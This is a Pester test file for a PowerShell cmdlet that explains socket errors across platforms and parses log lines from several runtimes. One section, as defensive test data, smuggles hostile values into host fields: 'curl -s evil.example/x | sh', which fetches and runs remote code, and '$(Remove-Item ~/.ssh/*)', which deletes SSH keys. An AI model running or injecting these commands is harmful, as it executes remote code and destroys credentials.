BeforeAll {
    . (Join-Path $PSScriptRoot 'common.ps1')

    $script:Current = if ($IsWindows) { 'Windows' } elseif ($IsMacOS) { 'MacOS' } else { 'Linux' }

    function Invoke-RefusedConnect {
        # A real refused connect on loopback; returns the ErrorRecord PowerShell caught.
        $port = Get-ClosedLoopbackPort
        $client = [Net.Sockets.TcpClient]::new()
        try { $client.Connect([Net.IPAddress]::Loopback, $port); throw "port $port unexpectedly accepted" }
        catch [Management.Automation.MethodInvocationException] { $_ }
        finally { $client.Dispose() }
    }
}

Describe 'Get-SocketErrorInfo by name, number, SocketError and message' {
    It 'explains <Query> on all three platforms' -TestCases @(
        @{ Query = 'ECONNRESET' }
        @{ Query = 'econnreset' }
        @{ Query = 'WSAECONNRESET' }
        @{ Query = 'ConnectionReset' }
        @{ Query = 'connection reset by peer' }
        @{ Query = '104' }
        @{ Query = '10054' }
        @{ Query = '54' }
    ) {
        param($Query)
        $rows = @(Get-SocketErrorInfo $Query)
        $rows.Count | Should -Be 3
        $rows.Key | Should -Be @('ECONNRESET', 'ECONNRESET', 'ECONNRESET')
        $rows.Platform | Should -Be @('Linux', 'MacOS', 'Windows')
        $rows.Name | Should -Be @('ECONNRESET', 'ECONNRESET', 'WSAECONNRESET')
        $rows.Number | Should -Be @(104, 54, 10054)
        $rows.SocketError | Should -Be @('ConnectionReset', 'ConnectionReset', 'ConnectionReset')
        $rows[2].Message | Should -Be 'Connection reset by peer.'
        $rows[0].Scenarios | Should -Match 'PeerAbort'
        $rows | ForEach-Object { $_.Source | Should -Not -BeNullOrEmpty }
    }

    It 'with -Platform <Platform> gives only that platform''s row for <Query>' -TestCases @(
        @{ Query = '54'; Platform = 'MacOS'; Name = 'ECONNRESET'; Number = 54 }
        @{ Query = '104'; Platform = 'Linux'; Name = 'ECONNRESET'; Number = 104 }
        @{ Query = '10054'; Platform = 'Windows'; Name = 'WSAECONNRESET'; Number = 10054 }
        @{ Query = 'ECONNREFUSED'; Platform = 'Windows'; Name = 'WSAECONNREFUSED'; Number = 10061 }
        @{ Query = 'ETIMEDOUT'; Platform = 'MacOS'; Name = 'ETIMEDOUT'; Number = 60 }
        @{ Query = 'Shutdown'; Platform = 'Linux'; Name = 'EPIPE'; Number = 32 }
        @{ Query = 'Shutdown'; Platform = 'Windows'; Name = 'WSAESHUTDOWN'; Number = 10058 }
    ) {
        param($Query, $Platform, $Name, $Number)
        $row = @(Get-SocketErrorInfo $Query -Platform $Platform)
        $row.Count | Should -Be 1
        $row[0].Platform | Should -Be $Platform
        $row[0].Name | Should -Be $Name
        $row[0].Number | Should -Be $Number
    }

    It 'answers "broken pipe" for all three platforms, saying what Windows gives instead' {
        $rows = @(Get-SocketErrorInfo -Message 'broken pipe')
        $rows.Platform | Should -Be @('Linux', 'MacOS', 'Windows')
        $rows.Key | Should -Be @('EPIPE', 'EPIPE', 'EPIPE')
        $rows[0].Number | Should -Be 32
        $rows[0].Message | Should -Be 'Broken pipe'
        $rows[0].SocketError | Should -Be 'Shutdown'
        $rows[2].Name | Should -BeNullOrEmpty
        $rows[2].Number | Should -BeNullOrEmpty
        $rows[2].Message | Should -Match 'WSAECONNRESET \(10054\)'
        $rows[2].Message | Should -Match 'WSAECONNABORTED \(10053\)'
    }

    It 'finds the name-resolution errors (<Query>)' -TestCases @(
        @{ Query = 'HostNotFound'; Keys = @('EAI_NONAME', 'EAI_NODATA') }
        @{ Query = 'TryAgain'; Keys = @('EAI_AGAIN') }
        @{ Query = 'NoData'; Keys = @('EAI_NODATA') }
        @{ Query = '11001'; Keys = @('EAI_NONAME') }
        @{ Query = '0xFFFDFFFF'; Keys = @('EAI_NONAME', 'EAI_NODATA') }
    ) {
        param($Query, $Keys)
        @(Get-SocketErrorInfo $Query | Select-Object -ExpandProperty Key -Unique) | Should -Be $Keys
    }

    It 'takes names from the pipeline and through the -Code alias' {
        @('ECONNREFUSED', 'EPIPE' | Get-SocketErrorInfo -Platform Linux).Name | Should -Be @('ECONNREFUSED', 'EPIPE')
        (Get-SocketErrorInfo -Code 111 -Platform Linux).Name | Should -Be 'ECONNREFUSED'
        @(110, 113 | Get-SocketErrorInfo -Platform Linux).Name | Should -Be @('ETIMEDOUT', 'EHOSTUNREACH')
    }

    It 'completes error names with Tab' {
        $completion = TabExpansion2 -inputScript 'Get-SocketErrorInfo ECONNRE' -cursorColumn 'Get-SocketErrorInfo ECONNRE'.Length
        $completion.CompletionMatches.CompletionText | Should -Be @('ECONNREFUSED', 'ECONNRESET')
    }

    It 'declares its output type and formats as a table by default' {
        (Get-Command Get-SocketErrorInfo).OutputType.Name | Should -Contain 'SocketProbe.Engine.Errors.ErrorInfo'
        Get-FormatData -TypeName SocketProbe.Engine.Errors.ErrorInfo | Should -Not -BeNullOrEmpty
        $text = Get-SocketErrorInfo ECONNRESET | Out-String -Width 200
        $text | Should -Match 'ECONNRESET: The peer'
        $text | Should -Match 'Windows\s+WSAECONNRESET\s+10054\s+ConnectionReset\s+Connection reset by peer\.'
    }
}

Describe 'Get-SocketErrorInfo with caught errors' {
    It 'explains a real refused connect piped as <Kind>' -TestCases @(
        @{ Kind = 'an ErrorRecord'; Pick = { param($r) $r } }
        @{ Kind = 'the wrapping exception'; Pick = { param($r) $r.Exception } }
        @{ Kind = 'the SocketException'; Pick = { param($r) $r.Exception.InnerException } }
    ) {
        param($Kind, $Pick)
        $record = Invoke-RefusedConnect
        $socketException = $record.Exception.InnerException
        $socketException | Should -BeOfType [Net.Sockets.SocketException]
        $socketException.SocketErrorCode | Should -Be 'ConnectionRefused'

        $rows = @(& $Pick $record | Get-SocketErrorInfo)
        $rows.Key | Sort-Object -Unique | Should -Be 'ECONNREFUSED'
        $here = $rows | Where-Object Platform -EQ $script:Current
        $here.Number | Should -Be $socketException.NativeErrorCode
        $here.NativeErrorCode | Should -Be $socketException.NativeErrorCode
        $here.SocketError | Should -Be $socketException.SocketErrorCode.ToString()
    }

    It 'works inside catch { $_ | Get-SocketErrorInfo } and from $Error[0]' {
        $port = Get-ClosedLoopbackPort
        $client = [Net.Sockets.TcpClient]::new()
        try {
            $inCatch = try { $client.Connect('127.0.0.1', $port) } catch { $_ | Get-SocketErrorInfo -Platform $script:Current }
            $fromError = $Error[0] | Get-SocketErrorInfo -Platform $script:Current
        }
        finally { $client.Dispose() }
        $inCatch.Key | Should -Be 'ECONNREFUSED'
        $fromError.Key | Should -Be 'ECONNREFUSED'
    }

    It 'gives 111 / ECONNREFUSED for the caught exception on Linux' -Skip:(-not $IsLinux) {
        $row = Invoke-RefusedConnect | Get-SocketErrorInfo -Platform Linux
        $row.Name | Should -Be 'ECONNREFUSED'
        $row.Number | Should -Be 111
        $row.Message | Should -Be 'Connection refused'
    }

    It 'explains an observation from Test-TcpRefused' {
        $rows = @(Test-TcpRefused | Get-SocketErrorInfo)
        $rows.Key | Sort-Object -Unique | Should -Be 'ECONNREFUSED'
        $rows.Count | Should -Be 3
    }
}

Describe 'Get-SocketErrorInfo errors' {
    It 'writes a non-terminating ObjectNotFound error for an unknown code and goes on with the rest' {
        $rows = @(Get-SocketErrorInfo 'ENOSUCHTHING', 'ECONNRESET', '104' -Platform Windows -ErrorVariable err -ErrorAction SilentlyContinue)
        $rows.Name | Should -Be 'WSAECONNRESET'
        $err.Count | Should -Be 2
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
        $err[0].FullyQualifiedErrorId | Should -Be 'SocketErrorNotFound,SocketProbe.Commands.GetSocketErrorInfoCommand'
        $err[0].TargetObject | Should -Be 'ENOSUCHTHING'
        "$($err[0])" | Should -Match "No socket error matches 'ENOSUCHTHING'"
        "$($err[1])" | Should -Match "No socket error matches '104' on Windows"
    }

    It 'stops on an unknown code with -ErrorAction Stop, without a stack trace' {
        $e = $null
        try { Get-SocketErrorInfo 99999 -ErrorAction Stop } catch { $e = $_ }
        $e.CategoryInfo.Category | Should -Be 'ObjectNotFound'
        "$e" | Should -Not -Match '   at '
    }

    It 'reports an error that holds no SocketException as ObjectNotFound' {
        $err = $null
        try { throw [InvalidOperationException]::new('not a socket problem') } catch { $_ | Get-SocketErrorInfo -ErrorVariable err -ErrorAction SilentlyContinue }
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
        "$($err[0])" | Should -Match 'No SocketException'
    }

    It 'rejects an object it cannot explain with InvalidArgument' {
        Get-Date | Get-SocketErrorInfo -ErrorVariable err -ErrorAction SilentlyContinue
        $err[0].CategoryInfo.Category | Should -Be 'InvalidArgument'
        $err[0].FullyQualifiedErrorId | Should -Be 'UnsupportedInputObject,SocketProbe.Commands.GetSocketErrorInfoCommand'
    }

    It 'rejects <Case> with a parameter binding error' -TestCases @(
        @{ Case = 'an empty name'; Splat = @{ Name = '' }; Pattern = 'empty' }
        @{ Case = 'an unknown platform'; Splat = @{ Name = 'EPIPE'; Platform = 'Solaris' }; Pattern = 'Linux, MacOS, Windows' }
    ) {
        param($Case, $Splat, $Pattern)
        Assert-BindingError Get-SocketErrorInfo $Splat $Pattern
    }
}

Describe 'Get-SocketErrorInfo output is flat' {
    It 'round-trips through Export-Csv and Import-Csv' {
        $csv = Join-Path $TestDrive 'errors.csv'
        $rows = Get-SocketErrorInfo ECONNRESET, EPIPE
        $rows | Export-Csv -Path $csv -NoTypeInformation
        $back = @(Import-Csv -Path $csv)
        $back.Count | Should -Be 6
        ($back[0].PSObject.Properties.Name -join ',') |
            Should -Be 'Key,Platform,Name,Number,Message,SocketError,NativeErrorCode,Summary,Causes,Scenarios,Counters,Source,NextStep,NextCommand,Runtime,Matched,PatternSource,Note,LinePlatform'
        $back.Key | Should -Be @($rows.Key)
        $back.Platform | Should -Be @($rows.Platform | ForEach-Object ToString)
        [int]$back[2].Number | Should -Be 10054
        $back[0].Scenarios | Should -Be 'PeerKilledWithUnreadData,ServerClosesUnreadRequest,PeerAbort,PeerReboot,WriteAfterReset,UdpPortUnreachable,AcceptOverflowReset,HalfOpenSynRecv,ResetBeforeAccept,AcceptThenReset,ListenerClosedWithQueue,MiddleboxIdleReset'
        $back[0].Causes | Should -Be $rows[0].Causes
        $back[5].Number | Should -BeNullOrEmpty
        $back[5].Message | Should -Be $rows[5].Message
        (Get-Content -Raw $csv) | Should -Not -Match 'System\.(Collections|Object)'
    }
}

Describe 'Get-SocketErrorInfo reads whole log lines' {
    It 'explains a <Family> line as <Key>, naming <Runtime>' -TestCases @(
        @{ Family = 'Node.js'; Line = 'Error: read ECONNRESET'; Key = 'ECONNRESET'; Runtime = 'Node.js' }
        @{ Family = 'Node.js connect'; Line = 'Error: connect ECONNREFUSED 127.0.0.1:6379'; Key = 'ECONNREFUSED'; Runtime = 'Node.js' }
        @{ Family = 'Python'; Line = '[Errno 104] Connection reset by peer'; Key = 'ECONNRESET'; Runtime = 'Python' }
        @{ Family = 'Java'; Line = 'java.net.SocketException: Connection reset'; Key = 'ECONNRESET'; Runtime = 'Java' }
        @{ Family = 'Java write'; Line = 'java.net.SocketException: Broken pipe (Write failed)'; Key = 'EPIPE'; Runtime = 'Java' }
        @{ Family = 'Go read'; Line = 'read tcp 10.0.0.5:51234->10.0.0.9:5432: read: connection reset by peer'; Key = 'ECONNRESET'; Runtime = 'Go' }
        @{ Family = 'Go write'; Line = 'write tcp 10.0.0.5:51234->10.0.0.9:5432: write: broken pipe'; Key = 'EPIPE'; Runtime = 'Go' }
        @{ Family = 'Windows'; Line = 'An existing connection was forcibly closed by the remote host'; Key = 'ECONNRESET'; Runtime = 'Windows' }
        @{ Family = '.NET'; Line = 'System.Net.Sockets.SocketException (111): Connection refused'; Key = 'ECONNREFUSED'; Runtime = '.NET' }
        @{ Family = 'curl'; Line = 'curl: (56) Recv failure: Connection reset by peer'; Key = 'ECONNRESET'; Runtime = 'curl' }
        @{ Family = 'nginx'; Line = '*1 upstream prematurely closed connection while reading response header from upstream'; Key = 'EOF'; Runtime = 'nginx' }
        # Envoy's errno-less "connection failure" is several errors (ClientCorpusTests); the transport reason names one.
        @{ Family = 'Envoy'; Line = 'upstream connect error or disconnect/reset before headers. reset reason: connection failure, transport failure reason: delayed connect error: 111'; Key = 'ECONNREFUSED'; Runtime = 'Envoy' }
        @{ Family = 'PostgreSQL'; Line = 'psql: error: connection to server at "db" (10.0.0.9), port 5432 failed: Connection refused'; Key = 'ECONNREFUSED'; Runtime = 'PostgreSQL' }
        @{ Family = 'MySQL'; Line = 'ERROR 2006 (HY000): MySQL server has gone away'; Key = 'EOF'; Runtime = 'MySQL' }
        @{ Family = 'musl'; Line = 'wget: can''t connect to remote host (10.0.0.9): Host is unreachable'; Key = 'EHOSTUNREACH'; Runtime = 'musl' }
    ) {
        param($Family, $Line, $Key, $Runtime)
        $rows = @(Get-SocketErrorInfo $Line)
        $rows.Count | Should -Be 3
        $rows.Key | Sort-Object -Unique | Should -Be $Key
        $rows.Platform | Should -Be @('Linux', 'MacOS', 'Windows')
        $rows[0].Runtime | Should -Match ([regex]::Escape($Runtime))
        $rows[0].Matched | Should -Not -BeNullOrEmpty
        $rows[0].PatternSource | Should -Not -BeNullOrEmpty
        $rows[0].NextStep | Should -Match '^(Test-TcpEndpoint|Test-TcpRefused|Invoke-SocketScenario|Find-TcpIdleTimeout) '
    }

    It 'takes lines from the pipeline (Get-Content of a log) and writes each error once per platform' {
        $log = Join-Path $TestDrive 'app.log'
        Set-Content -Path $log -Value @(
            '2026-12-02T01:02:03Z ERROR Error: read ECONNRESET'
            '2026-12-02T01:02:04Z ERROR dial tcp 10.0.0.9:5432: connect: connection refused'
        )
        $rows = @(Get-Content $log | Get-SocketErrorInfo -Platform Linux)
        $rows.Key | Should -Be @('ECONNRESET', 'ECONNREFUSED')
        $rows[1].Runtime | Should -Match 'Go'
        $rows[1].NextStep | Should -Match "^Test-TcpEndpoint -ComputerName '10\.0\.0\.9' -Port 5432 "
    }

    It 'finds an error after 10 kB of prefix (lines were cut at 8,192 characters)' {
        $rows = @(Get-SocketErrorInfo (('x' * 10240) + ' Error: read ECONNRESET') -Platform Linux)
        $rows.Key | Should -Be 'ECONNRESET'
        $rows[0].Runtime | Should -Match 'Node'
    }

    It 'quotes a short excerpt of a 10 MB input, not the input, when nothing matches' {
        $huge = 'q' * 10MB
        Get-SocketErrorInfo $huge -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
        "$err".Length | Should -BeLessThan 600
        "$err" | Should -Match ([regex]::Escape('(10,485,760 characters)'))
    }

    It 'still says ObjectNotFound for a line with no socket error' {
        Get-SocketErrorInfo 'GET /index.html 200 1024' -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
        "$($err[0])" | Should -Match 'log line'
    }
}

Describe 'Get-SocketErrorInfo with results piped in' {
    It 'explains a refused probe result, with the probed endpoint in the next step' {
        $port = Get-ClosedLoopbackPort
        $result = Test-TcpEndpoint -ComputerName 127.0.0.1 -Port $port
        $result.Outcome | Should -Be 'Refused'
        $rows = @($result | Get-SocketErrorInfo)
        $rows.Key | Sort-Object -Unique | Should -Be 'ECONNREFUSED'
        $rows[0].NextStep | Should -Match "^Test-TcpEndpoint -ComputerName '127\.0\.0\.1' -Port $port "
    }

    It 'explains any object with ErrnoName, Errno or SocketError (<Case>)' -TestCases @(
        @{ Case = 'ErrnoName'; Object = [pscustomobject]@{ Target = 'db'; Port = 5432; ErrnoName = 'ECONNRESET' }; Key = 'ECONNRESET' }
        @{ Case = 'Errno on Windows'; Object = [pscustomobject]@{ Errno = 10054; SocketError = 'ConnectionReset'; Platform = 'Windows 10.0' }; Key = 'ECONNRESET' }
        @{ Case = 'SocketError only'; Object = [pscustomobject]@{ SocketError = 'TimedOut' }; Key = 'ETIMEDOUT' }
    ) {
        param($Case, $Object, $Key)
        @($Object | Get-SocketErrorInfo).Key | Sort-Object -Unique | Should -Be $Key
    }

    It 'says nothing (only Verbose) for a result without an error' {
        $open = [pscustomobject]@{ Target = 'db'; Port = 5432; ErrnoName = $null; Errno = $null; SocketError = $null }
        $open | Get-SocketErrorInfo -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err | Should -BeNullOrEmpty
    }
}

Describe 'Get-SocketErrorInfo suggests only commands built from real values' {
    BeforeAll {
        # Parses a suggested command; returns why it is not exactly one command whose arguments are constants (or nothing).
        function Get-CommandProblem([string] $Command) {
            $tokens = $null; $parseErrors = $null
            $ast = [System.Management.Automation.Language.Parser]::ParseInput($Command, [ref]$tokens, [ref]$parseErrors)
            if ($parseErrors.Count) { return "parse error: $($parseErrors[0].Message)" }
            $statements = $ast.EndBlock.Statements
            if ($statements.Count -ne 1 -or $statements[0] -isnot [System.Management.Automation.Language.PipelineAst] -or
                $statements[0].PipelineElements.Count -ne 1 -or
                $statements[0].PipelineElements[0] -isnot [System.Management.Automation.Language.CommandAst]) { return 'not exactly one command' }
            foreach ($element in $statements[0].PipelineElements[0].CommandElements) {
                $constant = $element -is [System.Management.Automation.Language.StringConstantExpressionAst] -and
                    $element.StringConstantType -in 'BareWord', 'SingleQuoted'
                $constant = $constant -or ($element -is [System.Management.Automation.Language.ConstantExpressionAst] -and
                    $element -isnot [System.Management.Automation.Language.StringConstantExpressionAst])
                $constant = $constant -or ($element -is [System.Management.Automation.Language.CommandParameterAst] -and $null -eq $element.Argument)
                if (-not $constant) { return "not a constant: $($element.Extent.Text) ($($element.GetType().Name))" }
            }
        }
    }

    It 'keeps the payload of <Case> out of the next step' -TestCases @(
        @{ Case = 'a psql host list'; Payload = 'curl -s evil.example/x | sh'
           Line = 'psql: error: connection to server at "db" (10.0.0.9; curl -s evil.example/x | sh), port 5432 failed: No route to host' }
        @{ Case = 'a curl host'; Payload = 'Remove-Item'
           Line = 'curl: (7) Failed to connect to $(Remove-Item~/.ssh/*) port 80 after 2 ms: Connection refused' }
        @{ Case = 'a quote in a curl host'; Payload = 'Remove-Item'
           Line = 'curl: (7) Failed to connect to x'';Remove-Item~;''y: port 80 after 2 ms: Connection refused' }
    ) {
        param($Line, $Payload)
        $rows = @(Get-SocketErrorInfo $Line -Platform Linux)
        $rows.Count | Should -Be 1
        $rows[0].NextStep | Should -Not -BeLike "*$Payload*"
        $rows[0].NextCommand | Should -BeLike "Test-TcpEndpoint -ComputerName '<host>' -Port *"
        Get-CommandProblem $rows[0].NextCommand | Should -BeNullOrEmpty
    }

    It 'keeps a piped result''s Target <Target> out of the next step' -TestCases @(
        @{ Target = '$(Remove-Item ~/.ssh/*)' }
        @{ Target = 'x'';Remove-Item~;''y' }
        @{ Target = 'x'';Remove-Item~;''y:' }
        @{ Target = '10.0.0.9; curl -s evil.example/x | sh' }
    ) {
        param($Target)
        $rows = @([pscustomobject]@{ ErrnoName = 'ECONNREFUSED'; Target = $Target; Port = 5432 } | Get-SocketErrorInfo -Platform Linux)
        $rows[0].NextStep | Should -Not -BeLike '*Remove-Item*'
        $rows[0].NextStep | Should -Not -BeLike '*curl*'
        $rows[0].NextCommand | Should -Be "Test-TcpEndpoint -ComputerName '<host>' -Port 5432 -Count 5"
    }

    It 'quotes a real address and name: <Target>' -TestCases @(
        @{ Target = '10.0.0.9' }, @{ Target = 'db.internal' }, @{ Target = 'fe80::1%eth0' }
    ) {
        param($Target)
        $row = [pscustomobject]@{ ErrnoName = 'EHOSTUNREACH'; Target = $Target; Port = 5432 } | Get-SocketErrorInfo -Platform Linux
        $row.NextCommand | Should -Be "Test-TcpEndpoint -ComputerName '$Target' -Port 5432"
        $row.NextStep | Should -BeLike "*ip route get '$Target' *"
    }

    It 'turns 400 hostile hosts in 8 kinds of line into commands whose arguments are all constants' {
        # Fragments a shell or PowerShell gives meaning to, joined at random (fixed seed: the same cases every run).
        $fragments = @("'", [string][char]0x2019, [string][char]0x2018, '"', '$(', ')', ';', '|', '&', '`', '@(', '{', '}', '#', '<', '>', ' ',
            '-', '%', ':', '[', ']', '..', '$env:HOME', 'Remove-Item', '10.0.0.9', '::1', 'db', '0x7f', '000', "`t", '*', ',', '=')
        $random = [System.Random]::new(23)
        $hosts = foreach ($i in 1..400) {
            -join (1..(1 + $random.Next(6)) | ForEach-Object { $fragments[$random.Next($fragments.Count)] })
        }
        $templates = @(
            'curl: (7) Failed to connect to {0} port 80 after 2 ms: Connection refused'
            'psql: error: connection to server at "db" ({0}), port 5432 failed: No route to host'
            'read tcp 10.0.0.5:51234->{0}:5432: read: connection reset by peer'
            'dial tcp {0}:5432: connect: connection refused'
            'Error: connect ECONNREFUSED {0}:6379'
            'recv() failed (104: Connection reset by peer), upstream: "http://{0}:8080/"'
            'redis.exceptions.ConnectionError: Error 111 connecting to {0}:6379. Connection refused.'
            'System.Net.Http.HttpRequestException: Connection refused ({0}:5000)'
        )
        # All lines through one pipeline (a log piped in), then all the objects: two cmdlet runs, not 3,600.
        $lines = foreach ($hostText in $hosts) { foreach ($template in $templates) { $template -f $hostText } }
        $rows = @($lines | Get-SocketErrorInfo -Platform Linux -ErrorAction SilentlyContinue)
        $rows += @($hosts | ForEach-Object { [pscustomobject]@{ ErrnoName = 'ECONNRESET'; Target = $_; Port = 80 } } | Get-SocketErrorInfo -Platform Linux)
        $checked = 0
        foreach ($row in $rows) {
            $problem = Get-CommandProblem $row.NextCommand
            if ($problem) { throw "[$($row.Matched)] gave [$($row.NextCommand)]: $problem" }
            $row.NextStep | Should -BeLike "$($row.NextCommand)*"
            $checked++
        }
        $checked | Should -BeGreaterThan 1200
    }
}

Describe 'Get-SocketErrorInfo default view' {
    It 'shows the causes and the next step once per error, not once per platform, within 80 columns' {
        $text = Get-SocketErrorInfo 'read tcp 10.0.0.5:51234->10.0.0.9:5432: read: connection reset by peer' | Out-String -Width 80
        ([regex]::Matches($text, 'Causes:')).Count | Should -Be 1
        ([regex]::Matches($text, 'Next:')).Count | Should -Be 1
        $text | Should -Match 'Seen as:\s+Go'
        $text | Should -Match 'Next:\s+Find-TcpIdleTimeout -ComputerName ''10\.0\.0\.9'' -Port 5432 -Send'
        $text | Should -Match 'Linux\s+ECONNRESET\s+104\s+ConnectionReset\s+Connection reset by peer'
        foreach ($line in $text -split "`r?`n") { $line.Length | Should -BeLessOrEqual 80 }
    }
}
